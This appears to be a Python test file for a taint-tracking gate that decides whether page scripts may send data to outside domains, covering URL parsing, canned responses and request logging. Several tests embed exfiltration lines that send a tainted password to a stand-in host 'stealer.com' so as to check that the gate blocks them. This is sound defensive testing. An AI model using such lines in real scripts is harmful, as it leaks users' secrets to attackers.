"""Egress gate: sink decisions, URL parsing, canned responses, response
ordering, and the suppression-neutrality property."""

import copy

from support import error_kinds, global_tv

from taintgate.corpus import load_corpus_scenario
from taintgate.engine import Engine
from taintgate.labels import LOCAL, PUBLIC, domain, flow_permitted, parse_label
from taintgate.network import CannedResponse, parse_url_host
from taintgate.runner import run_scenario
from taintgate.runtime import TaintedValue
from taintgate.scenario import build_dom

HOST = "host.example"
H = domain(HOST)


def bare_engine(mode="upgrade"):
    engine = Engine(HOST, mode=mode)
    engine.attach_document(build_dom({"tag": "body", "id": "page"}))
    return engine


def test_url_host_parsing():
    assert parse_url_host("http://stealer.com/pwd.jsp?pwd=x") == "stealer.com"
    assert parse_url_host("https://API.Example.com:8443/x") == "api.example.com"
    assert parse_url_host("http://currConv.com/conv.jsp") == "currconv.com"
    assert parse_url_host("ftp://a.com/x") is None
    assert parse_url_host("http:///nopath") is None
    assert parse_url_host("not a url") is None


def test_tainted_url_is_blocked():
    engine = bare_engine()
    engine.globals.declare("p", TaintedValue("hunter2", H))
    engine.run_script("s", 'sendRequest("http://stealer.com/pwd.jsp?pwd=" + p);',
                      "third.example", policy=False)
    [entry] = engine.gate.log
    assert entry.decision == "blocked"
    assert entry.sink_domain == "stealer.com"
    assert entry.effective_label == H


def test_public_url_is_allowed():
    engine = bare_engine()
    engine.run_script("s", 'sendRequest("http://currconv.com/conv.jsp?toCur=EUR");',
                      "third.example", policy=False)
    [entry] = engine.gate.log
    assert entry.decision == "allowed"
    assert entry.reason == ""


def test_subdomain_of_label_domain_is_allowed():
    engine = bare_engine()
    engine.globals.declare("v", TaintedValue("x", H))
    engine.run_script("s", f'sendRequest("http://api.{HOST}/save?v=" + v);',
                      HOST, policy=False)
    [entry] = engine.gate.log
    assert entry.decision == "allowed"


def test_any_request_under_local_pc_is_blocked():
    engine = bare_engine()
    engine.globals.declare("l", TaintedValue(True, LOCAL))
    engine.run_script("s", 'if (l) { sendRequest("http://example.com/x"); }',
                      HOST, policy=False)
    [entry] = engine.gate.log
    assert entry.decision == "blocked"
    assert entry.pc_at_send == LOCAL


def test_malformed_urls_logged_as_blocked():
    engine = bare_engine()
    engine.run_script("s", 'sendRequest("nonsense"); sendRequest(5);',
                      HOST, policy=False)
    assert [e.decision for e in engine.gate.log] == ["blocked", "blocked"]
    assert [e.reason for e in engine.gate.log] == ["malformed", "malformed"]
    assert not engine.errors  # logged, not raised


def test_blocked_send_is_silent():
    engine = bare_engine()
    engine.globals.declare("p", TaintedValue("x", H))
    engine.run_script(
        "s",
        'var before = 1;\n'
        'sendRequest("http://stealer.com/x?v=" + p);\n'
        'var after = 2;',
        HOST, policy=False)
    assert not engine.errors
    assert global_tv(engine, "after").payload == 2.0


def test_fetch_delivers_canned_response_after_dispatch():
    engine = bare_engine()
    engine.gate.responses.append(
        CannedResponse("http://api.example.com/rate", "0.92", PUBLIC))
    engine.run_script(
        "s",
        'var got = null;\n'
        'fetch("http://api.example.com/rate?to=EUR", function (e) {'
        ' got = e.responseText; });',
        HOST, policy=False)
    assert global_tv(engine, "got").payload is None  # not yet delivered
    engine.finish_load()
    engine.drain_responses()
    tv = global_tv(engine, "got")
    assert tv.payload == "0.92"
    assert tv.label == PUBLIC


def test_longest_prefix_wins():
    engine = bare_engine()
    engine.gate.responses.append(CannedResponse("http://api.example.com/", "generic", PUBLIC))
    engine.gate.responses.append(
        CannedResponse("http://api.example.com/rate", "specific", PUBLIC))
    engine.run_script(
        "s", 'var got = null;\n'
             'fetch("http://api.example.com/rate?x=1", function (e) {'
             ' got = e.responseText; });',
        HOST, policy=False)
    engine.finish_load()
    engine.drain_responses()
    assert global_tv(engine, "got").payload == "specific"


def test_unmatched_fetch_gets_empty_body():
    engine = bare_engine()
    engine.run_script(
        "s", 'var got = null;\n'
             'fetch("http://api.example.com/none", function (e) {'
             ' got = e.responseText; });',
        HOST, policy=False)
    engine.finish_load()
    engine.drain_responses()
    assert global_tv(engine, "got").payload == ""


def test_blocked_fetch_never_invokes_callback():
    engine = bare_engine()
    engine.globals.declare("p", TaintedValue("x", H))
    engine.run_script(
        "s",
        'var ran = false;\n'
        'fetch("http://stealer.com/x?v=" + p, function (e) { ran = true; });',
        HOST, policy=False)
    engine.finish_load()
    engine.drain_responses()
    assert global_tv(engine, "ran").payload is False
    assert [e.decision for e in engine.gate.log] == ["blocked"]


def test_responses_delivered_in_request_order():
    engine = bare_engine()
    engine.gate.responses.append(CannedResponse("http://a.example/", "first", PUBLIC))
    engine.gate.responses.append(CannedResponse("http://b.example/", "second", PUBLIC))
    engine.run_script(
        "s",
        'var order = "";\n'
        'fetch("http://a.example/1", function (e) { order = order + e.responseText; });\n'
        'fetch("http://b.example/2", function (e) { order = order + e.responseText; });',
        HOST, policy=False)
    engine.finish_load()
    engine.drain_responses()
    assert global_tv(engine, "order").payload == "firstsecond"


def test_response_body_label_from_scenario():
    engine = bare_engine()
    engine.gate.responses.append(
        CannedResponse("http://a.example/", "secret-ish", domain("a.example")))
    engine.run_script(
        "s", 'var got = null;\n'
             'fetch("http://a.example/x", function (e) { got = e.responseText; });',
        HOST, policy=False)
    engine.finish_load()
    engine.drain_responses()
    assert global_tv(engine, "got").label == domain("a.example")


def test_request_log_sequential_and_complete():
    engine = bare_engine()
    engine.run_script(
        "s",
        'sendRequest("http://a.example/1");\n'
        'sendRequest("http://b.example/2");\n'
        'sendRequest("http://c.example/3");',
        HOST, policy=False)
    log = engine.gate.request_log()
    assert [e.seq for e in log] == [0, 1, 2]
    assert [e.sink_domain for e in log] == ["a.example", "b.example", "c.example"]


def test_decisions_recomputable_from_log():
    # soundness: stored decision matches flow_permitted on stored fields
    for name in ("password_meter", "password_meter_open", "currency_converter",
                 "click_counter", "click_presence", "overlay_shield"):
        result = run_scenario(load_corpus_scenario(name))
        for entry in result.report.requests:
            if entry["reason"] == "malformed":
                assert entry["decision"] == "blocked"
                continue
            label = parse_label(entry["effectiveLabel"], result.scenario.host)
            expected = "allowed" if flow_permitted(label, entry["sinkDomain"]) else "blocked"
            assert entry["decision"] == expected, entry


def test_forced_blocking_leaves_state_unchanged():
    # suppression neutrality: turning every send into a block must not
    # change anything the page can observe
    for name in ("password_meter_open", "click_counter", "overlay_shield"):
        scenario = load_corpus_scenario(name)
        scenario = copy.deepcopy(scenario)
        scenario.expect = None
        normal = run_scenario(scenario)
        forced = run_scenario(scenario, force_block=True)
        assert normal.report.dom_dump == forced.report.dom_dump
        assert normal.report.handler_log == forced.report.handler_log
        assert normal.report.errors == forced.report.errors
        normal_urls = [r["url"] for r in normal.report.requests]
        forced_urls = [r["url"] for r in forced.report.requests]
        assert normal_urls == forced_urls
        assert all(r["decision"] == "blocked" for r in forced.report.requests)


def test_empty_scenario_has_empty_log():
    engine = bare_engine()
    engine.finish_load()
    assert engine.gate.request_log() == []
